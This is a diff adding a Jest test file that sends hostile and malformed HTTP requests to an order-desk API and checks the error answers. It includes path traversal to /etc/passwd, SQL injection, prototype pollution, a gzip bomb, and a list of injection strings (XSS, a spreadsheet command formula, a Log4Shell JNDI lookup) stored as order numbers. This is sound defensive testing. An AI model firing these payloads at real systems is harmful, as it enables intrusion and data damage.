@@ -1,0 +1,203 @@
+import { request } from 'node:http';
+import { join } from 'node:path';
+import { text } from 'node:stream/consumers';
+import { gzipSync } from 'node:zlib';
+import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
+import iconv from 'iconv-lite';
+import { z } from 'zod';
+import { VirtualClock } from '../../src/clock';
+import { loadMasterData, readMasterData } from '../../src/installation/master-data';
+import { startSystemsHost, type SystemsHost } from '../../src/installation/systems-host';
+import { createLogger } from '../../src/log';
+import { loadDirectory } from '../../src/people/directory-file';
+import { createSystemClients } from '../../src/systems/clients';
+import { readFingerprints, type Fingerprint, type FingerprintReader } from '../support/fingerprint';
+import { createTestDatabase, type TestDatabase } from '../support/test-database';
+
+/**
+ * Hostile and sloppy requests over HTTP, each with the answer that it gets. Unless a row says otherwise it is
+ * a dealer's good order, sent by POST with the dealers' key and a fresh Idempotency-Key.
+ * (Rows that hold for every system alike, such as broken JSON: src/http/system-app.test.ts.)
+ */
+interface Sent {
+  method?: string;
+  path?: string;
+  headers?: Record<string, string | string[] | undefined>;
+  body?: string | Buffer;
+}
+type Row = [what: string, sent: Sent, status: number, code: string, field?: string];
+
+const order = { dealerNo: 'D-101', dealerOrderNo: 'H-1', shippingMethod: 'courier', lines: [{ partNo: 'BRK-01', quantity: 1 }] };
+const changed = (changes: object) => JSON.stringify({ ...order, ...changes });
+/** JSON with a piece that `JSON.stringify` would not write. */
+const raw = (field: string, json: string) => changed({ [field]: 'HERE' }).replace('"HERE"', json);
+const line = (json: string): Sent => ({ body: raw('lines', `[{"partNo":"BRK-01",${json}}]`) });
+const typed = (contentType: string | undefined): Sent => ({ headers: { 'content-type': contentType } });
+const keyed = (key: string | string[] | undefined): Sent => ({ headers: { 'idempotency-key': key } });
+const get = (path: string): Sent => ({ method: 'GET', path });
+const cancellation = (changes: object): Sent => ({ path: '/order-desk/orders/cancellations', body: JSON.stringify({ dealerNo: 'D-101', orderNo: 'DO-1', ...changes }) });
+
+const bodies: Row[] = [
+  ['a form', { ...typed('application/x-www-form-urlencoded'), body: 'dealerNo=D-101&lines=all' }, 415, 'unsupportedMediaType', 'Content-Type'],
+  ['JSON that calls itself text', typed('text/plain'), 415, 'unsupportedMediaType', 'Content-Type'],
+  ['JSON that does not say so', typed(undefined), 415, 'unsupportedMediaType', 'Content-Type'],
+  ['JSON in GB18030', { body: iconv.encode(changed({ dealerOrderNo: '九月订单' }), 'gb18030') }, 400, 'brokenJson', 'body'],
+  ['JSON in a charset that nobody knows', typed('application/json; charset=klingon'), 415, 'unreadableBody', 'body'],
+  ['JSON that says it is packed and is not', { headers: { 'content-encoding': 'gzip' } }, 400, 'unreadableBody', 'body'],
+  ['JSON packed in a way that nobody knows', { headers: { 'content-encoding': 'rar' } }, 415, 'unreadableBody', 'body'],
+  ['20 MB of blanks packed to 20 kB', { headers: { 'content-encoding': 'gzip' }, body: gzipSync(Buffer.alloc(20_000_000, ' ')) }, 413, 'bodyTooLarge', 'body'],
+  ['a text for an object', { body: '"an order"' }, 400, 'brokenJson', 'body'],
+  ['null', { body: 'null' }, 400, 'brokenJson', 'body'],
+  ['two orders behind each other', { body: changed({}) + changed({}) }, 400, 'brokenJson', 'body'],
+  ['lists in lists, 100,000 deep', { body: raw('lines', '['.repeat(100_000) + ']'.repeat(100_000)) }, 400, 'invalidRequest', 'lines.0'],
+  ['a number beyond all numbers', line('"quantity":1e999'), 400, 'invalidRequest', 'lines.0.quantity'],
+  ['a number that no computer holds exactly', line('"quantity":9007199254740993'), 400, 'invalidRequest', 'lines.0.quantity'],
+  ['no number', line('"quantity":NaN'), 400, 'brokenJson', 'body'],
+  ['a boolean for a quantity', line('"quantity":true'), 400, 'invalidRequest', 'lines.0.quantity'],
+  ['a prototype in a line', line('"__proto__":{"quantity":1}'), 400, 'invalidRequest', 'lines.0'],
+  ['a constructor', { body: changed({ constructor: { prototype: { admin: true } } }) }, 400, 'invalidRequest', 'body'],
+  ['10,000 fields that nobody knows', { body: changed(Object.fromEntries(Array.from({ length: 10_000 }, (_, index) => [`field${index}`, 1]))) }, 400, 'invalidRequest', 'body'],
+  ['20,000 lines that are none', { body: changed({ lines: Array(20_000).fill(0) }) }, 400, 'invalidRequest', 'lines'],
+  ['half of a surrogate pair', { body: raw('dealerOrderNo', '"H-\\ud83d"') }, 400, 'invalidRequest', 'dealerOrderNo'],
+  ['a NUL character', { body: raw('dealerOrderNo', '"H\\u0000"') }, 400, 'invalidRequest', 'dealerOrderNo'],
+  ['a line break in a number', { body: raw('dealerOrderNo', '"H-1\\nH-2"') }, 400, 'invalidRequest', 'dealerOrderNo'],
+  ['an order number of blanks', { body: changed({ dealerOrderNo: ' \t ' }) }, 400, 'invalidRequest', 'dealerOrderNo'],
+  ['an order number of 65 characters', { body: changed({ dealerOrderNo: 'H'.repeat(65) }) }, 400, 'invalidRequest', 'dealerOrderNo'],
+  ['a reason of 501 characters', cancellation({ reason: '不'.repeat(501) }), 400, 'invalidRequest', 'reason'],
+  ['a list for a reference', cancellation({ orderNo: ['DO-1', 'DO-2'] }), 400, 'invalidRequest', 'orderNo'],
+];
+
+const headers: Row[] = [
+  ['no Idempotency-Key', keyed(undefined), 400, 'idempotencyKeyMissing', 'Idempotency-Key'],
+  ['an Idempotency-Key of 201 characters', keyed('k'.repeat(201)), 400, 'idempotencyKeyMissing', 'Idempotency-Key'],
+  ['an Idempotency-Key with a blank in it', keyed('a key'), 400, 'idempotencyKeyMissing', 'Idempotency-Key'],
+  ['an Idempotency-Key with an accent', keyed('cl\u00e9'), 400, 'idempotencyKeyMissing', 'Idempotency-Key'],
+  ['two Idempotency-Keys', keyed(['one', 'two']), 400, 'idempotencyKeyMissing', 'Idempotency-Key'],
+  ["another operation's Idempotency-Key", { ...cancellation({}), ...keyed('of-the-good-order') }, 409, 'idempotencyKeyReused'],
+  ['an Idempotency-Key with another order', { ...keyed('of-the-good-order'), body: changed({ dealerOrderNo: 'H-2' }) }, 409, 'idempotencyKeyReused'],
+  ['no API key', { headers: { 'x-api-key': undefined } }, 401, 'unknownApiKey', 'X-Api-Key'],
+  ['the API key in the address', { path: '/order-desk/orders?x-api-key=dealers-key', headers: { 'x-api-key': undefined } }, 401, 'unknownApiKey', 'X-Api-Key'],
+  ['the API key as a password', { headers: { 'x-api-key': undefined, authorization: 'Bearer dealers-key' } }, 401, 'unknownApiKey', 'X-Api-Key'],
+  ['two API keys, one of them right', { headers: { 'x-api-key': ['dealers-key', 'other'] } }, 401, 'unknownApiKey', 'X-Api-Key'],
+  ["the dealers' key where orders are closed", { path: '/order-desk/orders/close', body: '{"orderNo":"DO-1"}' }, 403, 'closedDoor', 'X-Api-Key'],
+  ["the dealers' key where goods leave", { path: '/warehouse/movements/departure', body: '{}' }, 403, 'closedDoor', 'X-Api-Key'],
+  ["the dealers' key where signatures are recorded", { path: '/people/acts/check', body: '{}' }, 403, 'closedDoor', 'X-Api-Key'],
+  ["the dealers' key at the ledger", get('/finance/balances'), 403, 'closedDoor', 'X-Api-Key'],
+];
+
+const paths: Row[] = [
+  ['a change of an order by PUT', { method: 'PUT', path: '/order-desk/orders/DO-1' }, 405, 'methodNotAllowed'],
+  ['all orders deleted', { method: 'DELETE' }, 405, 'methodNotAllowed'],
+  ['a job asked for by GET', get('/order-desk/lines/record-supplied'), 405, 'methodNotAllowed'],
+  ['a path that there is not', get('/order-desk/admin'), 404, 'unknownPath'],
+  ['a system that there is not', get('/payroll/salaries'), 404, 'unknownPath'],
+  ['the way up', get('/order-desk/../warehouse/../../etc/passwd'), 404, 'unknownPath'],
+  ['the way up, written otherwise', get('/order-desk/orders/..%2f..%2fwarehouse%2fstock'), 404, 'notFound'],
+  ['a path with a broken character', get('/order-desk/orders/%E0%A4%A'), 400, 'malformedPath', 'path'],
+  ['a path that is a broken character', get('/%'), 404, 'unknownPath'],
+  ['a NUL in the path', get('/order-desk/orders/DO-1%00.pdf'), 400, 'invalidRequest', 'orderNo'],
+  ['an order number of 300 characters in the path', get(`/order-desk/orders/${'9'.repeat(300)}`), 400, 'invalidRequest', 'orderNo'],
+  ['SQL for an order number', get(`/order-desk/orders/${encodeURIComponent("' OR '1'='1")}`), 404, 'notFound'],
+  ['a parameter twice', get('/order-desk/orders?limit=1&limit=200'), 400, 'invalidRequest', 'limit'],
+  ['a dealer twice', get('/order-desk/orders?dealerNo=D-101&dealerNo=D-102'), 400, 'invalidRequest', 'dealerNo'],
+  ['a parameter that nobody knows', get('/order-desk/orders?order=desc'), 400, 'invalidRequest', 'query'],
+  ['a prototype as a parameter', get('/order-desk/orders?__proto__[limit]=1'), 400, 'invalidRequest', 'query'],
+  ['a limit of nothing', get('/order-desk/orders?limit='), 400, 'invalidRequest', 'limit'],
+  ['a limit without end', get('/order-desk/orders?limit=Infinity'), 400, 'invalidRequest', 'limit'],
+];
+
+/** Texts that some program may take for a command. Here they are what a dealer calls an order. */
+const onlyText = [
+  "'); DROP TABLE dealer_order; --",
+  '<script>alert(1)</script>',
+  "=cmd|' /C calc'!A0",
+  '../../etc/passwd',
+  '${jndi:ldap://evil/a}',
+  '{{7*7}} %s%n',
+  '\u202Egnp.H-1\u200B',
+  '订单🛵-１',
+];
+
+let database: TestDatabase;
+let host: SystemsHost;
+let books: FingerprintReader;
+let untouched: Fingerprint;
+beforeAll(async () => {
+  const root = join(import.meta.dirname, '..', '..');
+  database = await createTestDatabase();
+  host = await startSystemsHost({
+    adminUrl: database.url,
+    clock: new VirtualClock(new Date('2026-09-07T09:00:00+08:00')),
+    logger: createLogger('silent'),
+    apiKeys: { workers: 'workers-key', dealers: 'dealers-key' },
+    locale: 'zh-CN',
+    directory: await loadDirectory(join(root, 'src', 'people', 'demo-people.json')),
+    port: 0,
+  });
+  const clients = createSystemClients((system) => `${host.url}/${system}`, 'workers-key');
+  await loadMasterData(clients, await readMasterData(join(root, 'test', 'fixtures', 'scenario-fixture.json')), 'fixture');
+  expect((await send(keyed('of-the-good-order'))).status).toBe(200);
+  books = await readFingerprints(database.url);
+  untouched = await books.read();
+});
+afterAll(async () => {
+  await books.close();
+  await host.stop();
+  await database.drop();
+});
+
+let serial = 0;
+const problem = z.strictObject({
+  type: z.string().startsWith('urn:aftersales-flows:problem:'),
+  title: z.string(),
+  status: z.number(),
+  detail: z.string().min(1).max(2000),
+  instance: z.string(),
+  code: z.string(),
+  errors: z.array(z.strictObject({ field: z.string(), detail: z.string().min(1) })).optional(),
+});
+
+describe.each([
+  ['body', bodies],
+  ['header', headers],
+  ['path', paths],
+])('%s:', (_where, rows) => {
+  // Jest hands a callback to a test that names more than its row has.
+  test.each(rows)('%s', async (...[, sent, status, code, field]) => {
+    const answer = await send(sent);
+    expect(answer.type).toBe('application/problem+json; charset=utf-8');
+    expect(answer.text.length).toBeLessThan(20_000);
+    expect(answer.text).not.toMatch(/node_modules|\.ts:|select |insert into/);
+    const told = problem.parse(JSON.parse(answer.text));
+    expect({ http: answer.status, status: told.status, code: told.code, field: told.errors?.[0]?.field }).toEqual({ http: status, status, code, field });
+    expect(await books.read()).toEqual(untouched);
+  });
+});
+
+test.each(onlyText)('only text: %s', async (dealerOrderNo) => {
+  const { status, text: answer } = await send({ body: changed({ dealerOrderNo }) });
+  expect(status).toBe(200);
+  const { orderNo } = z.object({ orderNo: z.string() }).parse(JSON.parse(answer));
+  const view = await send(get(`/order-desk/orders/${orderNo}`));
+  expect(view.type).toBe('application/json; charset=utf-8');
+  expect(JSON.parse(view.text)).toMatchObject({ dealerOrderNo, lines: [], state: 'received' });
+});
+
+test('a path asked in the wrong way says which ways there are', async () => {
+  expect(await send({ method: 'PATCH' })).toMatchObject({ status: 405, allow: 'POST, GET' });
+});
+
+/** Sends the bytes as they are: no library mends path or headers. */
+async function send({ method = 'POST', path = '/order-desk/orders', headers: given = {}, body = JSON.stringify(order) }: Sent) {
+  const usual = { 'content-type': 'application/json', 'x-api-key': 'dealers-key', 'idempotency-key': `hostile-${(serial += 1)}` };
+  const sent: [string, string | string[]][] = Object.entries({ ...usual, ...given }).flatMap(([name, value]) => (value === undefined ? [] : [[name, value]]));
+  return new Promise<{ status: number; type: string; allow: string | undefined; text: string }>((resolve, reject) => {
+    const { hostname, port } = new URL(host.url);
+    const asked = request({ hostname, port, method, path, headers: Object.fromEntries(sent) }, (answer) => {
+      const { statusCode = 0, headers: got } = answer;
+      text(answer).then((words) => resolve({ status: statusCode, type: got['content-type'] ?? '', allow: got.allow, text: words }), reject);
+    });
+    asked.on('error', reject);
+    asked.end(method === 'GET' ? undefined : body);
+  });
+}
